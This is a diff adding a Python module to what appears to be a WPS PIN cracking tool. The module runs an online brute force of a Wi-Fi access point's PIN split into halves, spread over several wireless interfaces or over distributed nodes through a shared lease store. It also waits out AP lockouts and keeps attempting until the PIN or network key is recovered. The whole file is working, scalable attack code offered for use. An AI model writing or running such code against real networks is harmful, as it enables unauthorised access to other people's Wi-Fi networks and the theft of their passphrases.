@@ -0,0 +1,446 @@
+#!/usr/bin/env python3
+# -*- coding: utf-8 -*-
+
+import os
+import time
+import socket
+import sqlite3
+import threading
+import urllib.error
+
+from .wps import WPSpin
+from .pacing import AttemptPacer, AttemptOutcome
+from .checkpoint import Checkpointer
+from .lock_monitor import LockMonitor, MAX_LOCKED_TIME
+from .utils import sigtermInterrupts, restoreSession
+
+
+def pin_of(mask):
+    """The PIN tried for a 4-character (first half, second half 000) or 7-character mask"""
+    t = int(mask.ljust(7, '0'))
+    return '{:07d}{}'.format(t, WPSpin.checksum(t))
+
+
+class HalfSpace:
+    """
+    Shared progress of a partitioned brute force: hands out first halves to the workers,
+    then, once one is accepted, second halves; no half is handed out twice.
+    Rejected halves are kept in the TriedPins record of the AP
+    """
+    def __init__(self, tried, mask='0000'):
+        self.tried = tried
+        self.condition = threading.Condition()
+        self.in_flight = set()
+        self.pin = None
+        self.exhausted = False
+        self.switched = False   # Whether the workers have been told about the first half
+        if len(mask) == 7 and tried.firstHalf is None:
+            # A session saved before the record existed
+            tried.markFirstHalf(mask[:4])
+        if tried.firstHalf is not None:
+            mask = tried.firstHalf + (mask[4:] if len(mask) == 7 and mask[:4] == tried.firstHalf else '000')
+        self.next = mask   # '10000' once the first halves are all handed out
+        self.second_half = len(mask) == 7
+
+    @property
+    def first_half(self):
+        return self.tried.firstHalf
+
+    @property
+    def finished(self):
+        return self.pin is not None or self.exhausted
+
+    def isStale(self, mask):
+        """True if trying the mask cannot find the PIN any more"""
+        if self.finished:
+            return True
+        # A first half found by an attempt that timed out after M5 is stale as well: it was never answered
+        return len(mask) == 4 and self.first_half is not None
+
+    def __skipRejected(self):
+        if not self.second_half and self.first_half is not None:
+            self.next = self.first_half + '000'
+            self.second_half = True
+        if not self.second_half:
+            while int(self.next) < 10000 and self.tried.isFirstHalfRejected(self.next):
+                self.next = str(int(self.next) + 1).zfill(4)
+        else:
+            while int(self.next[4:]) < 1000 and self.tried.isSecondHalfRejected(self.next[:4], self.next[4:]):
+                self.next = self.next[:4] + str(int(self.next[4:]) + 1).zfill(3)
+
+    def __nextIsValid(self):
+        return int(self.next[4:]) < 1000 if self.second_half else int(self.next) < 10000
+
+    def __inPhase(self, mask):
+        return (len(mask) == 7) == self.second_half
+
+    def take(self):
+        """
+        Returns the next mask to try; blocks while everything left is being tried by other
+        workers. Returns None once the PIN is found or the space is exhausted
+        """
+        with self.condition:
+            while True:
+                if self.finished:
+                    return None
+                self.__skipRejected()
+                if self.__nextIsValid():
+                    mask = self.next
+                    if self.second_half:
+                        self.next = mask[:4] + str(int(mask[4:]) + 1).zfill(3)
+                    else:
+                        self.next = str(int(mask) + 1).zfill(4)
+                    self.in_flight.add(mask)
+                    return mask
+                if not self.in_flight:
+                    self.exhausted = True
+                    self.condition.notify_all()
+                    return None
+                self.condition.wait()
+
+    def answered(self, mask, status):
+        """
+        Registers the answer of the AP to the mask; @status — ConnectionStatus of the attempt
+        Returns True if the answer has changed the phase: first half found or PIN found
+        """
+        with self.condition:
+            self.in_flight.discard(mask)
+            changed = False
+            if status.status == 'GOT_PSK' or status.last_m_message > 6:
+                self.pin = pin_of(mask)
+                changed = True
+            elif len(mask) == 4 and status.isFirstHalfValid():
+                # The Companion has usually put it in TriedPins already
+                self.tried.markFirstHalf(mask)
+                if not self.second_half:
+                    # The second half 000 was tried with it
+                    self.next = mask + '001'
+                    self.second_half = True
+                changed = not self.switched
+                self.switched = True
+            self.condition.notify_all()
+            return changed
+
+    def release(self, mask):
+        """Gives back a mask that was not answered"""
+        with self.condition:
+            self.in_flight.discard(mask)
+            if not self.isStale(mask) and self.__inPhase(mask) and int(mask) < int(self.next):
+                self.next = mask
+            self.condition.notify_all()
+
+    def position(self):
+        """Mask to resume from: every half before it has been answered"""
+        with self.condition:
+            pending = [m for m in self.in_flight if self.__inPhase(m)]
+            return min(pending + [self.next], key=int)
+
+    def progress(self):
+        mask = self.position()
+        if len(mask) != 7:
+            return int(mask) / 11000 * 100
+        return (10000 + int(mask[4:])) / 11000 * 100
+
+
+class PartitionedBruteforce:
+    """
+    Online brute force of one AP over several interfaces: one Companion per interface
+    takes halves from a shared HalfSpace, and the first half accepted by any of them
+    switches all of them to the second half
+    @companions — Companions on distinct interfaces
+    @delay — minimum delay between the attempts of one interface, in seconds
+    """
+    def __init__(self, companions, bssid, delay=None, lock_monitor=True, checkpoint_every=1,
+                 checkpoint_interval=10.0, fsync_interval=30.0, statistics_period=10):
+        self.companions = companions
+        self.bssid = bssid.upper()
+        self.delay = delay or 0
+        self.lock_monitor = LockMonitor(companions[0].interface, bssid,
+                                        freq=companions[0].frequencies.get(self.bssid)) if lock_monitor else None
+        self.checkpoint_every = checkpoint_every
+        self.checkpoint_interval = checkpoint_interval
+        self.fsync_interval = fsync_interval
+        self.statistics_period = statistics_period
+        self.masks = {}   # Companion → mask it is trying
+        self.attempts = 0
+        self.lock = threading.Lock()
+        self.stopped = threading.Event()
+
+    def __cancelStale(self):
+        """Ends the attempts that can no longer find the PIN"""
+        for companion, mask in list(self.masks.items()):
+            if mask and self.space.isStale(mask):
+                companion.cancel.set()
+
+    def __worker(self, companion):
+        pacer = AttemptPacer(min_delay=self.delay)
+        companion.lock_monitor = self.lock_monitor
+        mask = None
+        answered = False
+        try:
+            while not self.stopped.is_set():
+                mask = self.space.take()
+                if mask is None:
+                    break
+                self.masks[companion] = mask
+                answered = False
+                while not self.stopped.is_set():
+                    companion.cancel.clear()
+                    if self.space.isStale(mask):
+                        break
+                    if self.lock_monitor:
+                        self.lock_monitor.waitUnlocked(MAX_LOCKED_TIME)
+                    start = time.monotonic()
+                    outcome = companion.bruteforceAttempt(self.bssid, pin_of(mask))
+                    if self.space.isStale(mask) or self.stopped.is_set():
+                        self.__cancelStale()
+                        break
+                    if outcome == AttemptOutcome.LOCKED and self.lock_monitor:
+                        self.lock_monitor.markLocked()
+                        continue
+                    delay = pacer.update(outcome, time.monotonic() - start)
+                    if outcome == AttemptOutcome.RESPONSE:
+                        changed = self.space.answered(mask, companion.connection_status)
+                        answered = True
+                        if changed:
+                            if self.space.pin:
+                                print('[+] {}: WPS PIN {}'.format(companion.interface, self.space.pin))
+                            else:
+                                print('[+] {}: first half {} found, all interfaces switch to the second half'.format(
+                                    companion.interface, mask))
+                            self.__cancelStale()
+                        self.__registerAttempt()
+                        pacer.wait()
+                        break
+                    print('[!] {}: WPS transaction failed, re-trying last pin in {:.1f} seconds'.format(
+                        companion.interface, delay))
+                    pacer.wait()
+                self.masks[companion] = None
+                if not answered:
+                    self.space.release(mask)
+                mask = None
+        except Exception as e:
+            print('[-] {}: stopped by an error: {!r}'.format(companion.interface, e))
+        finally:
+            # A mask left in flight would keep the other workers waiting for it
+            self.masks[companion] = None
+            if mask is not None and not answered:
+                self.space.release(mask)
+
+    def __registerAttempt(self):
+        self.checkpoint.update(self.space.position())
+        with self.lock:
+            self.attempts += 1
+            if self.attempts % self.statistics_period:
+                return
+            elapsed = time.monotonic() - self.start
+            print('[*] {:.2f}% complete, {} answers in {:.0f} s ({:.0f} PINs/hour) over {} interfaces'.format(
+                self.space.progress(), self.attempts, elapsed, self.attempts / elapsed * 3600, len(self.companions)))
+
+    def run(self, start_pin=None):
+        """Runs until the PIN is found, the space is exhausted or Ctrl+C; returns the PIN or None"""
+        filename = self.companions[0].sessions_dir + '{}.run'.format(self.bssid.replace(':', ''))
+        if (not start_pin) or (len(start_pin) < 4):
+            mask = restoreSession(filename, self.bssid) or '0000'
+        else:
+            mask = start_pin[:7]
+        tried = self.companions[0].triedPins(self.bssid)
+        for companion in self.companions[1:]:
+            companion.triedPins(self.bssid, shared=tried)
+        self.space = HalfSpace(tried, mask)
+        self.checkpoint = Checkpointer(filename, self.checkpoint_every, self.checkpoint_interval, self.fsync_interval)
+        self.checkpoint.update(self.space.position())
+        if self.lock_monitor:
+            self.lock_monitor.start()
+        print('[*] Bruteforcing {} over {} interfaces: {}'.format(
+            self.bssid, len(self.companions), ', '.join(c.interface for c in self.companions)))
+        self.start = time.monotonic()
+        threads = [threading.Thread(target=self.__worker, args=(c,), daemon=True) for c in self.companions]
+        with sigtermInterrupts():
+            try:
+                for thread in threads:
+                    thread.start()
+                for thread in threads:
+                    # A timeout keeps the main thread responsive to Ctrl+C
+                    while thread.is_alive():
+                        thread.join(0.5)
+                if self.space.exhausted:
+                    print('[-] PIN not found')
+            except KeyboardInterrupt:
+                print('\nAborting…')
+                self.stopped.set()
+                if self.lock_monitor:
+                    # Workers paused on a locked AP are woken up
+                    self.lock_monitor.stop()
+                for companion in self.companions:
+                    companion.cancel.set()
+                for thread in threads:
+                    thread.join()
+                print('[i] Session saved in {}'.format(filename))
+            finally:
+                self.checkpoint.update(self.space.position())
+                self.checkpoint.close()
+                if self.lock_monitor:
+                    self.lock_monitor.stop()
+                for companion in self.companions:
+                    companion.lock_monitor = None
+        return self.space.pin
+
+
+class DistributedBruteforce:
+    """
+    Online brute force of one AP by several nodes: the node leases chunks of halves from
+    a shared lease store (see lease_store), tries them and reports the rejected ones back.
+    The first half accepted on any node ends the first-half leases of all nodes, whose
+    running attempts are cancelled as soon as the heartbeat notices it
+    @store — SqliteLeaseStore or HttpLeaseStore
+    @poll_interval — seconds between lease renewals and between polls while there is nothing to lease
+    """
+    def __init__(self, companion, bssid, store, delay=None, lock_monitor=True, poll_interval=2.0):
+        self.companion = companion
+        self.bssid = bssid.upper()
+        self.store = store
+        self.owner = '{}:{}:{}'.format(socket.gethostname(), companion.interface, os.getpid())
+        self.pacer = AttemptPacer(min_delay=delay or 0)
+        self.lock_monitor = LockMonitor(companion.interface, bssid,
+                                        freq=companion.frequencies.get(self.bssid)) if lock_monitor else None
+        self.poll_interval = poll_interval
+        self.lease = None
+        self.obsolete = threading.Event()   # Set once the current lease is no longer worth working on
+        self.stopped = threading.Event()
+
+    def __call(self, method, *args):
+        """Calls the store, waiting out the moments it cannot be reached"""
+        while True:
+            try:
+                return getattr(self.store, method)(*args)
+            except urllib.error.HTTPError as e:
+                # A refusal would be repeated; a server-side failure (busy database) may pass
+                if e.code < 500 or self.stopped.is_set():
+                    raise
+                print('[!] Lease store failed ({} {}), retrying in {:.0f} seconds'.format(
+                    e.code, e.reason, self.poll_interval))
+                time.sleep(self.poll_interval)
+            except (OSError, sqlite3.Error) as e:
+                if self.stopped.is_set():
+                    raise
+                print('[!] Lease store unreachable ({}), retrying in {:.0f} seconds'.format(e, self.poll_interval))
+                time.sleep(self.poll_interval)
+
+    def __heartbeat(self):
+        while not self.stopped.wait(self.poll_interval):
+            lease = self.lease
+            if lease is None or self.obsolete.is_set():
+                continue
+            try:
+                state = self.store.renew(lease['id'], self.owner)
+            except (OSError, sqlite3.Error):
+                continue
+            if not state['valid'] and lease is self.lease:
+                self.obsolete.set()
+                self.companion.cancel.set()
+
+    def __attempt(self, mask):
+        """Tries the mask until the AP answers; returns False if the lease became obsolete first"""
+        while not self.obsolete.is_set():
+            self.companion.cancel.clear()
+            if self.lock_monitor:
+                self.lock_monitor.waitUnlocked(MAX_LOCKED_TIME)
+            start = time.monotonic()
+            outcome = self.companion.bruteforceAttempt(self.bssid, pin_of(mask))
+            if self.obsolete.is_set():
+                return False
+            if outcome == AttemptOutcome.LOCKED and self.lock_monitor:
+                self.lock_monitor.markLocked()
+                continue
+            delay = self.pacer.update(outcome, time.monotonic() - start)
+            # An AP that stops after M5 without a NACK has still accepted the first half
+            if outcome == AttemptOutcome.RESPONSE or (
+                    len(mask) == 4 and self.companion.connection_status.isFirstHalfValid()):
+                self.pacer.wait()
+                return True
+            print('[!] WPS transaction failed, re-trying last pin in {:.1f} seconds'.format(delay))
+            self.pacer.wait()
+        return False
+
+    def __work(self, lease):
+        """Works through the lease; returns the PIN if this node has found it"""
+        rejected = set(lease['rejected'])
+        tried = self.companion.triedPins(self.bssid)
+        for half in range(lease['start'], lease['end']):
+            if half in rejected:
+                continue
+            if lease['phase'] == 1:
+                mask = '%04d' % half
+                known = tried.isFirstHalfRejected(mask)
+            else:
+                mask = lease['first_half'] + '%03d' % half
+                known = tried.isSecondHalfRejected(mask[:4], mask[4:])
+            if not known and not self.__attempt(mask):
+                return None
+            status = self.companion.connection_status
+            if not known and (status.status == 'GOT_PSK' or status.last_m_message > 6):
+                pin = pin_of(mask)
+                self.__call('found', self.bssid, pin)
+                return pin
+            if not known and lease['phase'] == 1 and status.isFirstHalfValid():
+                print('[+] First half {} found, all nodes switch to the second half'.format(mask))
+                self.__call('acceptFirstHalf', self.bssid, mask,
+                            '000' if status.status == 'WSC_NACK' and status.last_m_message == 6 else None)
+                return None
+            if not self.__call('reject', lease['id'], self.owner, half)['valid']:
+                return None
+        self.__call('complete', lease['id'], self.owner)
+        return None
+
+    def run(self):
+        """Runs until the PIN is found by any node, the space is exhausted or Ctrl+C; returns the PIN or None"""
+        if self.lock_monitor:
+            self.companion.lock_monitor = self.lock_monitor.start()
+        heartbeat = threading.Thread(target=self.__heartbeat, daemon=True)
+        heartbeat.start()
+        print('[*] Bruteforcing {} as {}'.format(self.bssid, self.owner))
+        pin = None
+        with sigtermInterrupts():
+            try:
+                while True:
+                    lease = self.__call('lease', self.bssid, self.owner)
+                    if lease.get('done'):
+                        pin = lease['pin']
+                        if pin:
+                            print('[+] WPS PIN {} (found by this or another node)'.format(pin))
+                        else:
+                            print('[-] PIN not found')
+                        break
+                    if lease.get('wait'):
+                        time.sleep(self.poll_interval)
+                        continue
+                    if lease['phase'] == 1:
+                        print('[*] Leased first halves {:04d}–{:04d}'.format(lease['start'], lease['end'] - 1))
+                    else:
+                        print('[*] Leased second halves {}{:03d}–{}{:03d}'.format(
+                            lease['first_half'], lease['start'], lease['first_half'], lease['end'] - 1))
+                    self.obsolete.clear()
+                    self.lease = lease
+                    found = self.__work(lease)
+                    self.lease = None
+                    if found:
+                        pin = found
+                        print('[+] WPS PIN {}'.format(pin))
+                        break
+            except KeyboardInterrupt:
+                print('\nAborting…')
+                if self.lease:
+                    # The halves rejected so far are in the store, whoever takes the lease over skips them
+                    try:
+                        self.store.release(self.lease['id'], self.owner)
+                    except (OSError, sqlite3.Error):
+                        print('[!] Lease store unreachable, the lease will expire instead')
+            except urllib.error.HTTPError as e:
+                print('[-] Lease store refused the request: {} {}'.format(e.code, e.reason))
+            finally:
+                self.stopped.set()
+                if self.lock_monitor:
+                    self.lock_monitor.stop()
+                    self.companion.lock_monitor = None
+        return pin